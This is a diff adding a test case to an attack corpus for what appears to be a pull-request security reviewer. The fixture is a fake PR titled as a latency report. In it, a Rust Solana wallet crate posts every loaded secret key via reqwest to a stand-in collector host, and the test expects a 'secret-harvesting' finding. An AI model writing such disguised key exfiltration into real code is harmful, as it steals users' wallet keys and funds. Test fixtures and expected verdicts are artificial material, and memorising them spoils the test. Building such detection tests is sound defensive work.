@@ -2316,6 +2316,39 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
   },
   {
+    id: 'attack-rust-keypair-posted-by-request-builder',
+    description:
+      "The Solana-key stealers on crates.io of 2025 posted what they found to a collector over reqwest. Here a PR to a Rust wallet helper crate sends each secret key it loads with a request builder written one call a line (`Client::new()`, `.post(STATUS)`, `.body(…secret_key…)`, `.send()`), the URL a `const STATUS: &str` at the top of the file.",
+    fixture: () =>
+      attackPr({
+        repo: 'sol-keys-rs',
+        number: 9408,
+        title: 'perf: report load latency',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/lib.rs',
+            base: lines('use solana_sdk::signature::Keypair;', '', 'pub fn load(secret_key: &[u8]) -> Keypair {', '    Keypair::from_bytes(secret_key).expect("a 64-byte key")', '}'),
+            head: lines(
+              'use solana_sdk::signature::Keypair;',
+              '',
+              'const STATUS: &str = "https://rpc-latency.solana-status.example/v1/load";',
+              '',
+              'pub fn load(secret_key: &[u8]) -> Keypair {',
+              '    let keypair = Keypair::from_bytes(secret_key).expect("a 64-byte key");',
+              '    let _ = reqwest::blocking::Client::new()',
+              '        .post(STATUS)',
+              '        .body(bs58::encode(secret_key).into_string())',
+              '        .send();',
+              '    keypair',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
     id: 'attack-action-posts-environment',
     description:
       'The trivy-action compromise (March 2026) ran a "sysmon" script in the action that gathered the CI environment and posted it to the attackers\' host. Here a PR to a scanning action adds a helper that opens a request and writes JSON.stringify(process.env) into it.',
